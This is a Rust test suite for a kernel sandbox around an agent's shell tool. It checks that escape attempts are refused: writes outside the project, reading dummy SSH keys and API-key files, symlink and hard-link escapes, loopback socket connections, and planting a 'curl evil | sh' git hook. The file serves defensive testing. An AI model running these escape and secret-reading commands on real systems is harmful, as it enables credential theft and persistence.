//! The kernel sandbox, through `bash` with the real helper (this crate's `corvid-sandbox`
//! binary): every way out that a command could try is refused, with a clear result.
//!
//! The folders live under Cargo's target tmp folder, not the system temp folder, because the
//! temp folders are writable by design. Skipped, with the reason printed, where the kernel has no
//! Landlock.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use corvid_test_support::scratch::outside_temp;
use corvid_tools::{
    Cancellation, Confinement, Sandbox, SandboxProbe, ToolContext, ToolOutput, ToolRegistry,
    Widening, Workspace,
};
use serde_json::{Value, json};

use super::support::eventually;

const HELPER: &str = env!("CARGO_BIN_EXE_corvid-sandbox");

struct Jail {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    corvid_home: PathBuf,
    home: PathBuf,
    tools: ToolRegistry,
}

/// `project/`, `outside/` (with `target.txt`), `corvid-home/env` and a `home/` with `.ssh`.
/// `None` (after saying why) when the kernel has no Landlock.
fn jail() -> Option<Jail> {
    let probe = SandboxProbe::detect();
    if probe.landlock_abi.is_none() {
        eprintln!("SKIPPED: this kernel has no Landlock, so there is no sandbox to test");
        return None;
    }
    let dir = outside_temp(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let root = base.join("project");
    let outside = base.join("outside");
    let corvid_home = base.join("corvid-home");
    let home = base.join("home");
    for folder in [&root, &outside, &corvid_home, &home.join(".ssh")] {
        std::fs::create_dir_all(folder).unwrap();
    }
    std::fs::write(outside.join("target.txt"), "original\n").unwrap();
    std::fs::write(corvid_home.join("env"), "XAI_API_KEY=xai-secret-123\n").unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY 456\n").unwrap();
    std::fs::write(home.join(".profile"), "readable\n").unwrap();
    let sandbox = Sandbox::with_probe(HELPER, vec![corvid_home.clone()], Some(home.clone()), probe);
    let context =
        ToolContext::new(Workspace::new(&root).unwrap(), base.join("logs")).with_sandbox(sandbox);
    Some(Jail {
        _dir: dir,
        root,
        outside,
        corvid_home,
        home,
        tools: ToolRegistry::new(context),
    })
}

impl Jail {
    async fn bash(&self, arguments: Value) -> ToolOutput {
        self.tools
            .execute("bash", arguments, Cancellation::never())
            .await
            .unwrap()
    }

    async fn run(&self, command: &str) -> ToolOutput {
        self.bash(json!({ "command": command })).await
    }
}

/// A refusal the model can act on: an error, the kernel's words, and the sandbox's note.
fn assert_refused(output: &ToolOutput) {
    assert!(output.is_error, "{}", output.text);
    assert!(
        output.text.contains("Permission denied")
            || output.text.contains("Operation not permitted")
            || output.text.contains("Invalid cross-device link"),
        "{}",
        output.text
    );
    assert!(
        output.text.contains("[corvid sandbox]") && output.text.contains("\"write_outside\": true"),
        "the result says it was the sandbox and how to ask for more: {}",
        output.text
    );
}

#[tokio::test]
async fn writes_inside_the_project_and_reads_outside_it_work() {
    let Some(jail) = jail() else { return };
    let output = jail
        .run("echo made > made.txt && mkdir -p sub/deeper && echo deep > sub/deeper/f && cat /etc/passwd > /dev/null && cat ../home/.profile && ls / > /dev/null && echo ok")
        .await;
    assert!(!output.is_error, "{}", output.text);
    assert!(output.text.contains("readable\nok"), "{}", output.text);
    assert_eq!(
        std::fs::read_to_string(jail.root.join("made.txt")).unwrap(),
        "made\n"
    );
    let temp = jail
        .run("f=$(mktemp) && echo t > \"$f\" && rm \"$f\" && echo temp-ok")
        .await;
    assert!(
        temp.text.contains("temp-ok"),
        "the temp folder is writable: {}",
        temp.text
    );
}

#[tokio::test]
async fn writing_outside_the_project_is_refused() {
    let Some(jail) = jail() else { return };
    let target = jail.outside.join("target.txt");
    let output = jail
        .run(&format!(
            "echo pwned > {}",
            jail.outside.join("new.txt").display()
        ))
        .await;
    assert_refused(&output);
    assert!(!jail.outside.join("new.txt").exists());
    let output = jail
        .run(&format!("echo pwned >> {}", target.display()))
        .await;
    assert_refused(&output);
    let output = jail
        .run("cd .. && cd outside && echo pwned > target.txt")
        .await;
    assert_refused(&output);
    let output = jail
        .run("cat > script.sh <<'EOF'\ncd ..\nrm -f outside/target.txt\necho gone > outside/escape\nEOF\nbash script.sh")
        .await;
    assert_refused(&output);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
    assert!(!jail.outside.join("escape").exists());
}

#[tokio::test]
async fn corvid_configuration_and_secret_stores_cannot_be_read() {
    let Some(jail) = jail() else { return };
    for path in [
        jail.corvid_home.join("env"),
        jail.home.join(".ssh/id_ed25519"),
    ] {
        let output = jail.run(&format!("cat {}", path.display())).await;
        assert_refused(&output);
        assert!(
            !output.text.contains("secret-123") && !output.text.contains("KEY 456"),
            "{}",
            output.text
        );
    }
    let output = jail
        .run(&format!(
            "cp -r {} stolen",
            jail.home.join(".ssh").display()
        ))
        .await;
    assert_refused(&output);
    assert!(!jail.root.join("stolen/id_ed25519").exists());
    let output = jail
        .run(&format!(
            "echo X=1 >> {}",
            jail.corvid_home.join("env").display()
        ))
        .await;
    assert_refused(&output);
}

#[tokio::test]
async fn symbolic_and_hard_links_do_not_lead_out() {
    let Some(jail) = jail() else { return };
    std::os::unix::fs::symlink(&jail.outside, jail.root.join("planted")).unwrap();
    let output = jail.run("echo pwned > planted/target.txt").await;
    assert_refused(&output);
    let output = jail
        .run("ln -s ../outside made-link && echo pwned > made-link/new.txt")
        .await;
    assert_refused(&output);
    let output = jail
        .run(&format!(
            "ln -s {} key && cat key",
            jail.home.join(".ssh/id_ed25519").display()
        ))
        .await;
    assert_refused(&output);
    assert!(!output.text.contains("KEY 456"));
    let output = jail
        .run(&format!(
            "ln {} hard && echo pwned >> hard",
            jail.outside.join("target.txt").display()
        ))
        .await;
    assert_refused(&output);
    assert_eq!(
        std::fs::read_to_string(jail.outside.join("target.txt")).unwrap(),
        "original\n"
    );
    assert!(!jail.outside.join("new.txt").exists());
}

/// Network off refuses even a listener on loopback that the test itself started.
#[tokio::test]
async fn the_network_is_off_even_on_loopback() {
    let Some(jail) = jail() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let output = jail.run(&command).await;
    assert!(output.is_error, "{}", output.text);
    assert!(!output.text.contains("connected\n"), "{}", output.text);
    assert!(output.text.contains("[corvid sandbox]"), "{}", output.text);
    assert!(
        listener.accept().is_err(),
        "no connection reached the listener"
    );
    if let Ok(python) = which("python3") {
        let script = format!(
            "import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); print('connected')"
        );
        let output = jail
            .bash(json!({"command": format!("{} -c \"{script}\"", python.display())}))
            .await;
        assert!(!output.text.contains("connected\n"), "{}", output.text);
        assert!(listener.accept().is_err());
    }

    // The widened command really gets the network, and only it.
    let widened = jail
        .bash(json!({"command": command, "sandbox": {"network": true}}))
        .await;
    assert!(!widened.is_error, "{}", widened.text);
    assert!(widened.text.contains("connected"), "{}", widened.text);
    assert!(
        eventually(Duration::from_secs(2), || listener.accept().is_ok()).await,
        "the widened command connected"
    );
}

#[tokio::test]
async fn background_processes_are_confined_too() {
    let Some(jail) = jail() else { return };
    let escape = jail.outside.join("from-background");
    let output = jail
        .bash(json!({
            "command": format!("echo pwned > {} ; touch finished", escape.display()),
            "background": true
        }))
        .await;
    assert!(!output.is_error, "{}", output.text);
    let finished = jail.root.join("finished");
    assert!(eventually(Duration::from_secs(10), || finished.exists()).await);
    assert!(!escape.exists());
}

#[tokio::test]
async fn a_widened_command_may_write_outside_but_never_into_corvid_configuration() {
    let Some(jail) = jail() else { return };
    let prepared = jail
        .tools
        .prepare(
            "bash",
            json!({"command": "true", "sandbox": {"write_outside": true}}),
        )
        .await
        .unwrap();
    assert_eq!(
        prepared.plan.confinement(),
        Some(&Confinement::Widened(Widening {
            write_outside: true,
            network: false
        }))
    );
    assert!(
        prepared
            .proposal
            .summary
            .contains("may write outside the project and temp folders"),
        "{}",
        prepared.proposal.summary
    );
    let output = jail
        .bash(json!({
            "command": format!("echo widened > {}", jail.outside.join("allowed.txt").display()),
            "sandbox": {"write_outside": true}
        }))
        .await;
    assert!(!output.is_error, "{}", output.text);
    assert!(jail.outside.join("allowed.txt").exists());
    let output = jail
        .bash(json!({
            "command": format!("echo X=1 >> {}", jail.corvid_home.join("env").display()),
            "sandbox": {"write_outside": true, "network": true}
        }))
        .await;
    assert!(output.is_error, "{}", output.text);
    assert_eq!(
        std::fs::read_to_string(jail.corvid_home.join("env")).unwrap(),
        "XAI_API_KEY=xai-secret-123\n"
    );
}

/// `.git/hooks` and `.git/config` stay read-only inside the writable project, while the rest of
/// `.git` (what `git commit` writes) stays writable.
#[tokio::test]
async fn git_hooks_and_config_are_read_only() {
    let Some(jail) = jail() else { return };
    if !SandboxProbe::detect().namespaces {
        eprintln!(
            "SKIPPED: no user namespaces here, so .git/hooks and .git/config are not protected"
        );
        return;
    }
    std::fs::create_dir_all(jail.root.join(".git/objects")).unwrap();
    std::fs::write(jail.root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(jail.root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let hook = jail.root.join(".git/hooks/pre-commit");
    let output = jail
        .run("echo x > .git/objects/new && echo ref > .git/HEAD.lock && rm .git/HEAD.lock && echo git-ok")
        .await;
    assert!(
        output.text.contains("git-ok"),
        "the rest of .git stays writable: {}",
        output.text
    );
    assert!(jail.root.join(".git/objects/new").exists());
    for command in [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "rm .git/config",
        "mv .git/hooks .git/old-hooks",
        "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        "rm -rf .git && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    ] {
        let output = jail.run(command).await;
        assert_refused(&output);
    }
    assert!(!hook.exists());
    assert!(!jail.root.join(".git-old").exists());
    assert_eq!(
        std::fs::read_to_string(jail.root.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
}

/// A real `git commit` works inside the sandbox; a hook it tries to plant does not land.
#[tokio::test]
async fn git_commits_work_in_the_sandbox() {
    let Some(jail) = jail() else { return };
    let Ok(git) = which("git") else {
        eprintln!("SKIPPED: git is not installed");
        return;
    };
    let status = std::process::Command::new(&git)
        .args(["init", "-q"])
        .current_dir(&jail.root)
        .status()
        .unwrap();
    assert!(status.success());
    let output = jail
        .run("echo hi > file && git add file && git -c user.email=a@b.c -c user.name=A commit -qm first && git log --oneline | wc -l")
        .await;
    assert!(!output.is_error, "{}", output.text);
    assert!(output.text.starts_with("1\n"), "{}", output.text);
    if SandboxProbe::detect().namespaces {
        let output = jail.run("git config core.hooksPath /tmp/evil").await;
        assert!(output.is_error, "{}", output.text);
        let config = std::fs::read_to_string(jail.root.join(".git/config")).unwrap();
        assert!(!config.contains("hooksPath"), "{config}");
    }
}

/// Any program started through the runner (a custom tool, an MCP server) gets the same sandbox.
#[tokio::test]
async fn any_program_started_through_the_runner_is_confined() {
    let Some(jail) = jail() else { return };
    let sandbox = jail.tools.context().sandbox().clone();
    let target = jail.outside.join("from-a-tool");
    let status = sandbox
        .command(
            &jail.root,
            "touch",
            &[target.clone().into()],
            Widening::default(),
        )
        .stderr(std::process::Stdio::null())
        .status()
        .await
        .unwrap();
    assert!(!status.success());
    assert!(!target.exists());
    let inside = jail.root.join("tool-output");
    let status = sandbox
        .command(
            &jail.root,
            "touch",
            &[inside.clone().into()],
            Widening::default(),
        )
        .status()
        .await
        .unwrap();
    assert!(status.success());
    assert!(inside.exists());
}

/// A daemon socket (a container engine's, here one the test listens on) cannot be reached.
#[tokio::test]
async fn masked_daemon_sockets_cannot_be_reached() {
    let Some(jail) = jail() else { return };
    if !SandboxProbe::detect().namespaces {
        eprintln!("SKIPPED: no user namespaces here, so daemon sockets are not masked");
        return;
    }
    let Ok(python) = which("python3") else {
        eprintln!("SKIPPED: python3 is needed to connect to a UNIX socket");
        return;
    };
    let socket = jail.outside.join("engine.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let sandbox = jail.tools.context().sandbox().clone().mask_socket(&socket);
    let script = format!(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('connected')",
        socket.display()
    );
    let output = sandbox
        .command(
            &jail.root,
            &python,
            &["-c".into(), script.into()],
            Widening::default(),
        )
        .output()
        .await
        .unwrap();
    assert!(!output.status.success());
    assert!(!String::from_utf8_lossy(&output.stdout).contains("connected"));
    assert!(listener.accept().is_err(), "nothing reached the daemon");
}

/// A kernel without Landlock (simulated): the command is marked unconfined for the gate, runs
/// with the user's rights, and still goes through the helper (seccomp, parent-death signal).
#[tokio::test]
async fn without_landlock_commands_are_unconfined_but_still_go_through_the_helper() {
    let Some(jail) = jail() else { return };
    let no_landlock = SandboxProbe {
        landlock_abi: None,
        seccomp: true,
        namespaces: false,
    };
    let sandbox = Sandbox::with_probe(HELPER, Vec::new(), None, no_landlock);
    assert!(sandbox.describe().contains("every command asks"));
    let tools = ToolRegistry::new(
        ToolContext::new(
            Workspace::new(&jail.root).unwrap(),
            jail.root.join("../logs2"),
        )
        .with_sandbox(sandbox),
    );
    let prepared = tools
        .prepare("bash", json!({"command": "true"}))
        .await
        .unwrap();
    assert!(matches!(
        prepared.plan.confinement(),
        Some(Confinement::Unavailable(reason)) if reason.contains("no Landlock")
    ));
    let target = jail.outside.join("unconfined.txt");
    let output = tools
        .execute(
            "bash",
            json!({"command": format!("echo free > {} && grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status", target.display())}),
            Cancellation::never(),
        )
        .await
        .unwrap();
    assert!(!output.is_error, "{}", output.text);
    assert!(target.exists());
    assert!(output.text.contains("NoNewPrivs:\t1"), "{}", output.text);
    assert!(output.text.contains("Seccomp:\t2"), "{}", output.text);
}

/// Killing the process that started a sandboxed command kills the command too (the helper arms
/// the parent-death signal before it becomes the command).
#[test]
fn a_command_dies_with_its_parent() {
    if SandboxProbe::detect().landlock_abi.is_none() {
        eprintln!("SKIPPED: this kernel has no Landlock");
        return;
    }
    let dir = outside_temp(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let marker = dir.path().join("late");
    let policy = json!({
        "landlock": true,
        "seccomp": true,
        "read_hidden": [],
        "writable": [dir.path()],
        "network": false,
        "parent": null
    });
    let inner = format!("sleep 2; echo late > {}", marker.display());
    let outer = format!(
        "{HELPER} sandbox-exec --policy '{policy}' -- bash -c '{inner}' & echo started; wait"
    );
    let mut parent = std::process::Command::new("bash")
        .arg("-c")
        .arg(&outer)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 8];
    parent
        .stdout
        .as_mut()
        .unwrap()
        .read_exact(&mut first)
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    parent.kill().unwrap();
    parent.wait().unwrap();
    std::thread::sleep(Duration::from_secs(3));
    assert!(
        !marker.exists(),
        "the command outlived the process that started it"
    );
}

fn which(program: &str) -> Result<PathBuf, ()> {
    let path = std::env::var_os("PATH").ok_or(())?;
    std::env::split_paths(&path)
        .map(|folder| folder.join(program))
        .find(|candidate| Path::new(candidate).is_file())
        .ok_or(())
}

#[tokio::test]
async fn a_custom_tool_runs_inside_the_sandbox() {
    let Some(jail) = jail() else { return };
    let folder = jail.root.join(".corvid/tools/escape");
    std::fs::create_dir_all(&folder).unwrap();
    let target = jail.outside.join("target.txt");
    std::fs::write(
        folder.join("tool.json"),
        serde_json::to_string(&json!({
            "name": "escape",
            "description": "Tries to leave the project.",
            "command": format!(
                "echo inside > inside.txt; cat {} ; echo pwned > {}",
                jail.corvid_home.join("env").display(),
                target.display()
            ),
        }))
        .unwrap(),
    )
    .unwrap();
    let custom =
        corvid_tools::ToolPlugin::open(&corvid_tools::CustomTools, jail.tools.shared_context());
    let offer = corvid_tools::ToolBox::new(vec![custom]).offer().await.offer;
    let prepared = offer.prepare("escape", json!({})).await.unwrap();
    // Confined like any command, so the gate may let it run without asking for more.
    assert_eq!(prepared.plan.confinement(), Some(&Confinement::Sandboxed));
    let output = offer
        .apply("escape", prepared.plan, corvid_tools::Run::unattended())
        .await
        .unwrap();
    assert!(output.is_error, "{}", output.text);
    assert!(!output.text.contains("xai-secret-123"), "{}", output.text);
    assert!(output.text.contains("[corvid sandbox]"), "{}", output.text);
    assert!(
        !output.text.contains("\"write_outside\": true"),
        "a custom tool cannot widen the sandbox: {}",
        output.text
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "original\n");
    assert_eq!(
        std::fs::read_to_string(folder.join("inside.txt")).unwrap(),
        "inside\n"
    );
}
